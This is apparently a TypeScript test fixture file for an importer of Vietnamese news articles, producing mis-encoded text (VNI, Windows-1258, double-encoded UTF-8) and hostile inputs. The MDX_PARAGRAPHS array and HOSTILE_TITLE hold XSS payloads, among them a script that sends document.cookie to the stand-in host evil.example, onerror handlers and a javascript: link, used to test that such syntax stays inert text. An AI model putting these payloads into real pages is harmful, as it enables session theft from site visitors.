/** Hostile and broken inputs for the importer, built from a real seed page. */
import { readFileSync } from 'node:fs';
import { seedPath } from '../support/test-archive.ts';

/** A real scraped page (VOV, 18 December 2021), as it was imported. */
export const REAL_PAGE = readFileSync(seedPath('004_58ea57227f96d471.txt'), 'utf8');

const TITLE = 'Doanh nghiệp Việt Nam mở rộng xuất khẩu sang thị trường châu Phi và Trung Đông';
const LEAD =
  'Sáng 14/3, tại Hà Nội, Bộ Ngoại giao phối hợp với Bộ Công Thương tổ chức hội nghị kết nối doanh nghiệp với các cơ quan đại diện Việt Nam ở nước ngoài nhằm thúc đẩy xuất khẩu nông sản sang các thị trường mới.';
const BODY =
  'Phát biểu tại hội nghị, đại diện Bộ Ngoại giao cho biết các cơ quan đại diện sẽ tiếp tục cung cấp thông tin thị trường, hỗ trợ doanh nghiệp tìm kiếm đối tác và tháo gỡ vướng mắc về rào cản kỹ thuật.';

/** A small article page: title, date line, paragraphs. */
export const page = (title: string, ...paragraphs: string[]) =>
  [title, '', '15/03/2023 - 08:30', '', ...paragraphs.flatMap((p) => [p, ''])].join('\n');

export const utf8 = (text: string) => new TextEncoder().encode(text);

/** UTF-16 with a byte order mark, little- or big-endian. */
export function utf16(text: string, littleEndian: boolean): Uint8Array {
  const bytes = new Uint8Array(2 + text.length * 2);
  const view = new DataView(bytes.buffer);
  view.setUint16(0, 0xfeff, littleEndian);
  for (let i = 0; i < text.length; i++) view.setUint16(2 + i * 2, text.charCodeAt(i), littleEndian);
  return bytes;
}

/** Windows-1258, which writes Vietnamese as letters (ă â ê ô ơ ư đ) followed by a combining tone mark. */
export function windows1258(text: string): Uint8Array {
  const table = new Map<string, number>();
  const decoder = new TextDecoder('windows-1258');
  for (let byte = 0; byte < 256; byte++) table.set(decoder.decode(new Uint8Array([byte])), byte);
  const byteOf = (char: string) => {
    if (!table.has(char)) throw new Error(`no Windows-1258 byte for ${JSON.stringify(char)}`);
    return table.get(char)!;
  };
  // each letter with its marks: the circumflex, breve or horn makes the letter, the rest are tones
  return Uint8Array.from(
    (text.normalize('NFD').match(/\P{M}\p{M}*/gu) ?? []).flatMap((cluster) => {
      const [base, ...marks] = [...cluster];
      const letterMark = marks.find((mark) => /[\u0302\u0306\u031b]/u.test(mark));
      const letter = letterMark ? (base + letterMark).normalize('NFC') : base;
      return [letter, ...marks.filter((mark) => mark !== letterMark)].map(byteOf);
    }),
  );
}

/** Text in the VNI font encoding as it shows in a Unicode editor ("Vieät Nam" for "Việt Nam"). */
export const VNI_TEXT = page(
  'Ngoaïi giao kinh teá ñoàng haønh cuøng doanh nghieäp',
  'Saùng 14/3, taïi Haø Noäi, Boä Ngoaïi giao phoái hôïp vôùi Boä Coâng Thöông toå chöùc hoäi nghò keát noái doanh nghieäp vôùi caùc cô quan ñaïi dieän Vieät Nam ôû nöôùc ngoaøi.',
  'Phaùt bieåu taïi hoäi nghò, ñaïi dieän Boä Ngoaïi giao cho bieát caùc cô quan ñaïi dieän seõ tieáp tuïc cung caáp thoâng tin thò tröôøng cho doanh nghieäp Vieät Nam.',
);

/** UTF-8 that was read as Windows-1252 and saved again ("Viá»‡t" for "Việt"). */
export function doubleEncoded(text: string): string {
  return [...utf8(text)].map((byte) => new TextDecoder('windows-1252').decode(new Uint8Array([byte]))).join('');
}

/** Paragraphs full of MDX and HTML syntax, each long enough to be taken for running text. */
export const MDX_PARAGRAPHS = [
  `import { danger } from "./x.js" — câu này mở đầu bằng import nhưng là văn bản của bài báo về xuất nhập khẩu.`,
  `export default function Page() { return <script>alert(1)</script> } — cũng chỉ là văn bản, không phải mã.`,
  `Giá trị {props.secret} và {1 + 1} và {/* chú thích */} không được chạy; <Component onClick={() => steal()} /> cũng vậy.`,
  '<script>document.location = "https://evil.example/" + document.cookie</script> <img src=x onerror="alert(1)"> là chữ.',
  '--- ba gạch ngang, ```js khối mã``` và `code` cùng <!-- chú thích HTML --> và &amp; &#123; \\{ phải giữ nguyên trong bài viết này.',
  `# không phải tiêu đề, > không phải trích dẫn, - không phải danh sách, [liên kết](javascript:alert(1)) và http://baoquocte.vn/<b> cũng thế.`,
];

export const HOSTILE_TITLE = 'Tiêu đề {x} <script>alert(1)</script> --- `import` & "ngoặc kép" \\ cuối';

export { TITLE, LEAD, BODY };
